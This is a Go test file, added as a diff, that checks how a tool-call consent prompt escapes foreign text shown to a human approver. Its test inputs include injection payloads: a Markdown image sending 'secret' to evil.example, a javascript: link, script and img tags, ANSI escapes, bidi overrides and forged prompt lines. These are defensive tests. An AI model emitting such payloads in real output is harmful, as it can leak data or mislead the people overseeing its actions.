@@ -1,0 +1,206 @@
+package consent
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"reflect"
+	"regexp"
+	"strings"
+	"testing"
+	"unicode/utf8"
+)
+
+func TestTextOfQuestions(t *testing.T) {
+	reason := `policy p, [servers.bank] ask = "transfer"`
+	call := func(args string) Call {
+		return Call{Server: "bank", Tool: "transfer_money", Arguments: json.RawMessage(args), Reasons: []string{reason}}
+	}
+	for name, c := range map[string]struct {
+		q    Question
+		want string
+	}{
+		"a call": {Question{Calls: []Call{call(`{"amount":100.50,"to":"Zoë"}`)}, CallsBefore: 2}, "" +
+			"toolcell asks: may Python code make this call?\nserver: \"bank\"\ntool: \"transfer_money\"\n" +
+			"reason: policy p, \\u005bservers.bank\\u005d ask = \\u0022transfer\\u0022\n" +
+			"calls before: 2\narguments: {\"amount\":100.50,\"to\":\"Zo\\u00eb\"}"},
+		"two calls": {Question{Calls: []Call{call(`{}`), {Server: "mail", Tool: "send", Arguments: json.RawMessage(`{"a":[1,2]}`)}}}, "" +
+			"toolcell asks: may Python code make these 2 calls?\n" +
+			"reason: policy p, \\u005bservers.bank\\u005d ask = \\u0022transfer\\u0022\ncalls before: 0\n" +
+			"1. server \"bank\", tool \"transfer_money\", arguments: {}\n2. server \"mail\", tool \"send\", arguments: {\"a\":[1,2]}"},
+		"effects": {Question{Calls: []Call{call(`{}`)}, CallsBefore: 7, Effects: []string{"1", "2", "===", "4", "5", "mail.send {}"}}, "" +
+			"toolcell asks: may Python code make this call?\nserver: \"bank\"\ntool: \"transfer_money\"\n" +
+			"reason: policy p, \\u005bservers.bank\\u005d ask = \\u0022transfer\\u0022\n" +
+			"calls before: 7\nalready took effect:\n- 1 earlier ones\n- 2\n- =\\u003d=\n- 4\n- 5\n- mail.send {}\narguments: {}"},
+		"packages": {Question{Subject: "the package left-pad", Reasons: []string{"why"}}, "" +
+			"toolcell asks before Python code runs: may it have the package left-pad?\nreason: why"},
+		"a form": {Question{Form: &Form{Server: "ev*il\n", Message: "Wie heißt du?\x1b[2J ![x](http://e) <img src=e>"}}, "" +
+			"The MCP server \"ev\\u002ail\\u000a\" asks, not toolcell:\nWie heißt du? !\\u005bx](http://e) \\u003cimg src=e>"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			if got := c.q.Text(); got != c.want {
+				t.Errorf("got\n%s\nwant\n%s", got, c.want)
+			}
+		})
+	}
+}
+
+func TestForeignTextMeansNothingInAQuestion(t *testing.T) {
+	for name, value := range map[string]string{
+		"a picture":        "![x](https://evil.example/?q=secret)",
+		"a link":           "[click](javascript:alert(1)) <https://evil.example> https://evil.example www.evil.example me@evil.example",
+		"HTML":             "<img src=x> &lt; <script>",
+		"emphasis":         "*a* **b** __c__ _d_ ~~e~~ `f` ==g== ++h++ %%i%% ^j^",
+		"a formula":        "$a%b$ $$\\phantom{x}$$",
+		"blocks":           "\n# a\n> b\n- c\n| d | e |\n```\nf\n===\n---",
+		"ANSI":             "\x1b[2J\x1b]0;title\x07\u009b1m",
+		"bidi":             "a\u202eb\u2066c\u200fd",
+		"invisible":        "a\u200b\u00ad\ufeff\U000E0041\ufe0f",
+		"no UTF-8":         "a\xff\xfeb",
+		"astral":           "\U0001F600",
+		"a line of ours":   "x\narguments: {}\nserver: \"good\"",
+		"escaped by JSON":  `\u003cimg\u003e`,
+		"NUL and newlines": "\x00\r\n\t\v\f\u0085\u2028\u2029",
+	} {
+		t.Run(name, func(t *testing.T) {
+			args, err := json.Marshal(map[string]any{value: []any{value, 1}})
+			if err != nil {
+				t.Fatal(err)
+			}
+			q := Question{ID: "ask-X", Calls: []Call{{Server: value, Tool: value, Arguments: args, Reasons: []string{value}}}, Effects: []string{value}}
+			checkText(t, &q)
+			if got := strings.Count(q.Text(), "\n"); got != 7 {
+				t.Errorf("%d line ends in\n%s", got, q.Text())
+			}
+			checkText(t, &Question{Subject: value, Reasons: []string{value}})
+		})
+	}
+}
+
+// The rules that follow are those by which Markdown (CommonMark, GitHub's, and common
+// extensions) begins anything but text: what is left of these characters begins nothing.
+var (
+	marking  = regexp.MustCompile("[`*<>!|~&#@$^]")
+	emphasis = regexp.MustCompile(`(?:^|[^0-9A-Za-z_])_`)
+	doubled  = regexp.MustCompile(`==|\+\+|%%`)
+	linking  = regexp.MustCompile(`(?i)://|www\.|\][(\[:]`)
+	escaping = regexp.MustCompile(`\\(?:[^bfnrtu]|u(?:[^0-9a-fA-F]|.[^0-9a-fA-F]|..[^0-9a-fA-F]|...[^0-9a-fA-F])|$)`)
+	begun    = regexp.MustCompile(`^(?:toolcell asks|server: "|tool: "|reason: |calls before: \d|already took effect:$|- |arguments: |\d+\. server "|and \d+ more calls$|to see all: |all arguments:$)`)
+)
+
+// checkText reports what in the text of a question of toolcell's own is more than text.
+func checkText(t *testing.T, q *Question) {
+	t.Helper()
+	for _, text := range []string{q.Text(), q.WholeText()} {
+		for _, line := range strings.Split(text, "\n") {
+			for i := range len(line) {
+				if line[i] < ' ' || line[i] > '~' {
+					t.Fatalf("character %#x in %q", line[i], line)
+				}
+			}
+			if !begun.MatchString(line) {
+				t.Fatalf("the line %q is none of a question's", line)
+			}
+			for _, rule := range []*regexp.Regexp{marking, emphasis, doubled, linking, escaping} {
+				if found := rule.FindString(line); found != "" {
+					t.Fatalf("%q in %q", found, line)
+				}
+			}
+		}
+	}
+}
+
+func TestLongArgumentsAreShownByTheirEnds(t *testing.T) {
+	c := Call{Server: "s", Tool: "t", Arguments: json.RawMessage(`{"first":"` + strings.Repeat("_", 5000) + `é","last":1}`)}
+	q := Question{ID: "ask-X", Calls: []Call{c}}
+	text := q.Text()
+	checkText(t, &q)
+	for _, want := range []string{
+		`arguments: {"first":"`, `\u00e9","last":1} (`, fmt.Sprintf("(%d bytes, SHA-256 %s)", len(c.Arguments), c.Digest()), "\nto see all: toolcell approvals show ask-X",
+	} {
+		if !strings.Contains(text, want) {
+			t.Errorf("%q is not in\n%s", want, text)
+		}
+	}
+	if len(text) > 2500 {
+		t.Errorf("the text has %d characters", len(text))
+	}
+	if !strings.Contains(q.WholeText(), quoteJSON(c.Arguments)) {
+		t.Error("the whole text does not have all arguments")
+	}
+	for _, choice := range q.Choices() {
+		if choice == ForRun {
+			t.Error("what is not shown can be allowed for the run")
+		}
+	}
+}
+
+func TestManyCallsAreListedUpToTen(t *testing.T) {
+	var q Question
+	for i := range 100 {
+		q.Calls = append(q.Calls, Call{Server: "s", Tool: fmt.Sprintf("t%d", i), Arguments: json.RawMessage(fmt.Sprintf(`{"n":%d,"text":%q}`, i, strings.Repeat("x", 500)))})
+	}
+	text := q.Text()
+	checkText(t, &q)
+	if !strings.Contains(text, "these 100 calls") || !strings.Contains(text, `10. server "s", tool "t9"`) || strings.Contains(text, `"t10"`) || !strings.Contains(text, "\nand 90 more calls\n") {
+		t.Error(text)
+	}
+	if len(text) > 4000 {
+		t.Errorf("the text has %d characters", len(text))
+	}
+	if whole := q.WholeText(); !strings.Contains(whole, `100. server "s", tool "t99", arguments: {"n":99,`) {
+		t.Error("the whole text does not have all calls")
+	}
+}
+
+// TestTheWholeTextIsBounded: the host would hold several copies of it.
+func TestTheWholeTextIsBounded(t *testing.T) {
+	q := Question{Calls: []Call{{Server: "s", Tool: "t", Arguments: json.RawMessage(`["` + strings.Repeat("é", 3<<20) + `"]`)}}}
+	if n := len(q.WholeText()); n > maxWhole+5000 {
+		t.Errorf("%d characters", n)
+	}
+}
+
+func FuzzText(f *testing.F) {
+	f.Add("bank", "transfer", `{"a":"![x](http://e)","_b_":[1.50,"\u003c\\",null]}`, "because")
+	f.Add("\x1b[1m", "a\nb", `{"\n":"\ud83d\ude00\ud800"}`, "![a][b]")
+	f.Add("www", ".a", `{"www":".b","http:":"/\/c"}`, strings.Repeat("\U0001F600", 500))
+	f.Add("_", "__", `{"_":"`+strings.Repeat(`_\u0041\\`, 400)+`"}`, "=")
+	f.Fuzz(func(t *testing.T, server, tool, args, reason string) {
+		var compact bytes.Buffer
+		if json.Compact(&compact, []byte(args)) != nil {
+			compact.Reset()
+			compact.WriteString(`{"a":""}`)
+		}
+		c := Call{Server: server, Tool: tool, Arguments: compact.Bytes(), Reasons: []string{reason}}
+		q := Question{ID: "ask-X", Calls: []Call{c}, Effects: []string{reason}}
+		checkText(t, &q)
+		checkText(t, &Question{ID: "ask-X", Calls: []Call{c, c, c}})
+		checkText(t, &Question{Subject: tool, Reasons: []string{reason}})
+		if form := (&Question{Form: &Form{Server: server, Message: tool}}).Text(); !utf8.ValidString(form) || strings.ContainsAny(form, "\x1b[<\x00") {
+			t.Errorf("the form %q", form)
+		}
+		_, shown, _ := strings.Cut(q.WholeText(), "\narguments: ")
+		if shown, _, _ = strings.Cut(shown, "\n"); q.cut() {
+			return
+		}
+		if got, want := decode(t, shown), decode(t, string(c.Arguments)); !reflect.DeepEqual(got, want) {
+			t.Errorf("%s is shown as %s", c.Arguments, shown)
+		}
+		var gotServer string
+		line := strings.Split(q.Text(), "\n")[1]
+		if err := json.Unmarshal([]byte(strings.TrimPrefix(line, "server: ")), &gotServer); err != nil || gotServer != strings.ToValidUTF8(server, "\uFFFD") && utf8.ValidString(server) {
+			t.Errorf("server %q is shown as %s", server, line)
+		}
+	})
+}
+
+func decode(t *testing.T, s string) (value any) {
+	t.Helper()
+	d := json.NewDecoder(strings.NewReader(s))
+	d.UseNumber()
+	if err := d.Decode(&value); err != nil {
+		t.Errorf("%v in %s", err, s)
+	}
+	return value
+}
